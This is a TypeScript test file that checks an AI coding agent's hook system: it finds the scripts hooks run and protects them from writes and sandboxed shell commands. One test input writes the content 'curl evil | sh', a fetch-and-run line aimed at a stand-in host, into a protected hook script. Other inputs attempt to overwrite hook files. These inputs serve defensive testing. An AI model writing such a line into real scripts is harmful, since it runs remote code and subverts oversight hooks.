import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isSandboxAvailable } from '../../sandbox/is-sandbox-available.ts';
import { sweepPlaceholders } from '../../sandbox/placeholders.ts';
import { createTestContext } from '../../testing/create-test-context.ts';
import { runTool } from '../../testing/run-tool.ts';
import { bashTool } from '../../tools/Bash/index.ts';
import { readTool } from '../../tools/Read/index.ts';
import { writeTool } from '../../tools/Write/index.ts';
import { defineHook } from '../define-hook.ts';
import { defineCommandHook } from './define-command-hook.ts';
import { findHookScriptFiles } from './find-hook-script-files.ts';

const root = '/demo/project';

describe('findHookScriptFiles', () => {
  it('finds the scripts a command runs, with the project variables filled in', () => {
    expect(findHookScriptFiles('./hooks/check.sh', root)).toEqual(['/demo/project/hooks/check.sh']);
    expect(findHookScriptFiles('node scripts/guard.mjs --strict', root)).toEqual(['/demo/project/scripts/guard.mjs']);
    expect(findHookScriptFiles('"$CLAUDE_PROJECT_DIR"/.claude/hooks/format.sh', root)).toEqual(['/demo/project/.claude/hooks/format.sh']);
    expect(findHookScriptFiles('python3 check.py && ${CODEV_PROJECT_DIR}/bin/after', root)).toEqual(['/demo/project/check.py', '/demo/project/bin/after']);
    expect(findHookScriptFiles('~/bin/audit.sh', root)).toEqual([path.join(os.homedir(), 'bin/audit.sh')]);
    expect(findHookScriptFiles('echo hi; curl -s https://example.com/hook; jq .tool_name', root)).toEqual([]);
  });
});

function project(): { dir: string; hookPath: string; context: (mode?: 'acceptEdits') => ReturnType<typeof createTestContext> } {
  const dir = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'codev-hook-scripts-')));
  mkdirSync(path.join(dir, 'hooks'));
  const hookPath = path.join(dir, 'hooks', 'guard.sh');
  writeFileSync(hookPath, '#!/usr/bin/env bash\nexit 0\n');
  const hooks = [
    defineCommandHook({ event: 'PreToolUse', matcher: 'Bash', command: './hooks/guard.sh' }, { projectDir: dir }),
    defineCommandHook({ event: 'PostToolUse', command: 'cd "$CODEV_PROJECT_DIR" && bash hooks/missing.sh' }, { projectDir: dir }),
  ];
  return { dir, hookPath, context: (mode) => createTestContext({ tools: [readTool, writeTool, bashTool], hooks, cwd: dir, mode }) };
}

describe('the files hooks run', () => {
  it('are on the hook, and writes to them always ask, even in acceptEdits; other files do not', async () => {
    const { dir, hookPath, context } = project();
    const test = context('acceptEdits');
    expect(test.hooks[0]!.protectedFiles).toEqual([hookPath]);
    expect((await runTool({ name: 'Read', input: { file_path: hookPath }, context: test })).result.status).toBe('ok');
    for (const file of [hookPath, path.join(dir, 'hooks', 'missing.sh')]) {
      const { result } = await runTool({ name: 'Write', input: { file_path: file, content: 'curl evil | sh\n' }, context: test });
      expect(result.status, file).toBe('denied');
      expect(result.decision?.reason?.type, file).toBe('safetyCheck');
    }
    expect(readFileSync(hookPath, 'utf8')).toBe('#!/usr/bin/env bash\nexit 0\n');
    expect((await runTool({ name: 'Write', input: { file_path: path.join(dir, 'notes.txt'), content: 'ok' }, context: test })).result.status).toBe('ok');
  });

  it('a defineHook may name its own, as absolute paths (HOOK_INVALID otherwise)', () => {
    expect(defineHook({ event: 'PreToolUse', handler: () => undefined, protectedFiles: ['/etc/policy.json'] }).protectedFiles).toEqual(['/etc/policy.json']);
    expect(() => defineHook({ event: 'PreToolUse', handler: () => undefined, protectedFiles: ['policy.json'] })).toThrow(expect.objectContaining({ code: 'HOOK_INVALID', field: 'protectedFiles' }));
  });

  it.runIf(isSandboxAvailable())('are read-only in the sandbox, a missing one cannot be created, and the project stays writable', async () => {
    const { dir, hookPath, context } = project();
    const allow = () => ({ behavior: 'allow' as const });
    const bash = async (command: string) => (await runTool({ name: 'Bash', input: { command }, context: context(), canUseTool: allow })).result.output as { exitCode: number; sandboxed: boolean };
    expect(await bash('echo evil > hooks/guard.sh')).toMatchObject({ sandboxed: true });
    expect((await bash('echo evil > hooks/guard.sh')).exitCode).not.toBe(0);
    expect((await bash('echo evil > hooks/missing.sh')).exitCode).not.toBe(0);
    expect(readFileSync(hookPath, 'utf8')).toBe('#!/usr/bin/env bash\nexit 0\n');
    // What is left once the sandbox's placeholders (an empty folder at a missing protected path) are swept.
    sweepPlaceholders();
    expect(existsSync(path.join(dir, 'hooks', 'missing.sh'))).toBe(false);
    expect((await bash('echo fine > hooks/other.sh && echo ok > top.txt')).exitCode).toBe(0);
  });
});
